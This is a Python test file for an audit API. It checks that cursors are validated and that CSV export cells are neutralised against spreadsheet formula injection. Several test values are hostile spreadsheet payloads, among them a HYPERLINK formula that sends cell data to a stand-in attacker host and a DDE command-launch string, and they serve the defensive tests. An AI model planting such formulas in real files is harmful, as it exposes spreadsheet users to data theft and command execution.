"""What audit reads from a caller and writes for one: a cursor is only ever a position this API returned (a
422 naming it otherwise, never a database error), and a CSV export no spreadsheet runs as formulas."""

from __future__ import annotations

import base64
import csv
import io
from datetime import UTC, datetime

import pytest

from services.audit.endpoints import EXPORT_FIELDS, _csv, csv_cell
from services.audit.service import decode_cursor
from shared.errors import InvalidInput

AT = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)


def cursor(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode()


def test_a_cursor_round_trips_its_position():
    assert decode_cursor(cursor("seq|42")) == 42
    assert decode_cursor(cursor(f"seq|{2**63 - 1}")) == 2**63 - 1


@pytest.mark.parametrize(
    "text",
    [
        f"seq|{2**63}",  # beyond PostgreSQL's bigint: was a 500 from the database
        f"seq|{10**40}",
        "seq|-1",
        f"{AT.isoformat()}|42",  # the time-and-position cursors of before the lists were ordered by seq
        "seq|forty-two",
        "no separator",
    ],
)
def test_a_cursor_this_api_never_returned_is_a_422_naming_it(text):
    with pytest.raises(InvalidInput) as refused:
        decode_cursor(cursor(text))
    assert refused.value.errors == [{"field": "query.cursor", "message": "not a cursor this API returned"}]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_a_spreadsheet_would_run_is_neutralised(start):
    text = f'{start}HYPERLINK("http://evil.example","x")'
    assert csv_cell("correlation_id", text) == "'" + text
    assert csv_cell("actor_id", text) == "'" + text


def test_other_cells_are_written_as_they_are():
    assert csv_cell("correlation_id", "c-1=2") == "c-1=2"
    assert csv_cell("correlation_id", None) == ""
    assert csv_cell("seq", -1) == -1  # a number is no formula
    assert csv_cell("occurred_at", AT) == AT.isoformat()
    assert csv_cell("data", {"name": "=1+1"}) == '{"name":"=1+1"}'  # JSON text starts with { or [


async def test_a_forged_correlation_id_reaches_the_file_as_text():
    row = ["" for _ in EXPORT_FIELDS]
    row[EXPORT_FIELDS.index("correlation_id")] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    row[EXPORT_FIELDS.index("aggregate_id")] = "@SUM(1+1)*cmd|' /C calc'!A0"
    [parsed] = list(csv.DictReader(io.StringIO(await _csv([row], header=True))))
    assert parsed["correlation_id"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert parsed["aggregate_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in parsed.values())


async def test_csv_shows_sealed_personal_fields_opened_or_erased_while_jsonl_keeps_the_stored_form(key_provider):
    import json

    from services.audit.endpoints import _jsonl
    from shared.contracts.clients import ClientCreated
    from shared.contracts.privacy import ERASED
    from shared.privacy.fields import seal_data
    from tests import events

    person = events.client_created(kind="individual", name="Σοφία Νικολάου", email="sofia@example.gr")
    sealed = await seal_data(ClientCreated, person.model_dump(mode="json"), event_id="ev-csv")
    row = ["" for _ in EXPORT_FIELDS]
    row[EXPORT_FIELDS.index("seq")] = 1
    row[EXPORT_FIELDS.index("event_id")] = "ev-csv"
    row[EXPORT_FIELDS.index("data")] = sealed
    row[EXPORT_FIELDS.index("changes")] = [{"field": "email", "before": None, "after": sealed["email"]}]

    async def cells() -> tuple[dict, list]:
        [parsed] = list(csv.DictReader(io.StringIO(await _csv([row], header=True))))
        return json.loads(parsed["data"]), json.loads(parsed["changes"])

    data, changes = await cells()
    assert (data["name"], data["email"], changes[0]["after"]) == (
        "Σοφία Νικολάου",
        "sofia@example.gr",
        "sofia@example.gr",
    )
    assert json.loads(_jsonl([row]))["data"] == sealed  # what the chain hashed, to recompute it
    key_provider.destroy(f"client:{person.client_id}")
    data, changes = await cells()
    assert (data["name"], data["email"], changes[0]["after"]) == (ERASED, ERASED, ERASED)
    assert row[EXPORT_FIELDS.index("data")] == sealed  # the row itself is not changed
